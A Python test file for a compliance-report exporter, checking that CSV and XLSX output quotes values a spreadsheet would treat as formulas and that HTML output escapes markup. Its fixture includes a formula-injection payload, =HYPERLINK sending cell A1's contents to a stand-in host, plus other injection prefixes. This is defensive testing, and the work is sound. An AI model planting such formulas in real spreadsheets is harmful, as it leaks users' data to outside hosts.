"""No text the product writes into a CSV or an XLSX is read back as a formula (issue: a
servant's name `=HYPERLINK(...)` became a live link in the compliance report)."""

from __future__ import annotations

import csv
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from notifications.compliance_report import write_csv, write_xlsx
from notifications.spreadsheets import as_text
from states.compliance import Row

LINK = '=HYPERLINK("http://x.example/?"&A1,"click")'


@pytest.mark.parametrize("text", [LINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_a_spreadsheet_would_take_for_a_formula_is_quoted(text: str) -> None:
    assert as_text(text) == "'" + text


@pytest.mark.parametrize("value", ["Әлия Серікқызы", "a=b", " =1", "—", "", -3, 10, date(2026, 4, 10), None])
def test_other_values_are_left_as_they_are(value: object) -> None:
    assert as_text(value) == value


def _row(servant: str) -> Row:
    return Row(state_body="-Body", unit="@unit", responsible="+7 701", step="step", rule="mne2017 п.3.1", kind="quarterly",
               period="2026-Q1", servant=servant, due=date(2026, 4, 10), done_on=None, days_overdue=10, status="overdue")


def test_the_report_s_csv_writes_a_formula_as_text(tmp_path: Path) -> None:
    path = write_csv([_row(LINK)], tmp_path / "report.csv", "en")
    with path.open(encoding="utf-8-sig", newline="") as source:
        header, line = list(csv.reader(source))
    cells = dict(zip(header, line))
    assert cells["Servant appraised"] == "'" + LINK
    assert (cells["State body"], cells["Unit"], cells["Responsible"]) == ("'-Body", "'@unit", "'+7 701")
    assert (cells["Due"], cells["Working days overdue"], cells["Status"]) == ("2026-04-10", "10", "overdue")


def test_the_report_s_xlsx_stores_a_formula_as_a_string_cell(tmp_path: Path) -> None:
    path = write_xlsx([_row(LINK)], tmp_path / "report.xlsx", "en", date(2026, 4, 20))
    with zipfile.ZipFile(path) as book:
        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and all("<f>" not in book.read(name).decode("utf-8") for name in sheets)
    sheet = load_workbook(path).active
    header = [cell.value for cell in sheet[1]]
    cells = {name: cell for name, cell in zip(header, sheet[2])}
    assert cells["Servant appraised"].data_type == "s" and cells["Servant appraised"].value == "'" + LINK
    assert cells["Working days overdue"].value == 10 and cells["Working days overdue"].data_type == "n"


def test_the_report_s_html_puts_each_value_under_its_header(tmp_path: Path) -> None:
    """The HTML writes a row's cells one by one (for speed): they must follow the headers."""
    import re

    from notifications.compliance_report import write_html

    html = write_html([_row("<b>Servant</b>")], tmp_path / "report.html", "en", date(2026, 4, 20)).read_text("utf-8")
    totals, detail = html.split('<table class="totals">', 1)[1].split("<table>", 1)  # the unit's and the body's totals, then the rows
    assert re.findall(r"<td[^>]*>(.*?)</td>", totals) == ["-Body", "@unit", "1", "0", "1", "-Body", "Body total", "1", "0", "1"]
    headers = re.findall(r"<th>(.*?)</th>", detail)
    cells = re.findall(r"<td[^>]*>(.*?)</td>", detail)
    assert dict(zip(headers, cells)) == {
        "State body": "-Body", "Unit": "@unit", "Responsible": "+7 701", "Step": "step", "Rule": "mne2017 п.3.1",
        "Appraisal": "quarterly", "Period": "2026-Q1", "Servant appraised": "&lt;b&gt;Servant&lt;/b&gt;", "Due": "2026-04-10",
        "Done on": "", "Working days overdue": "10", "Status": "overdue",
    }
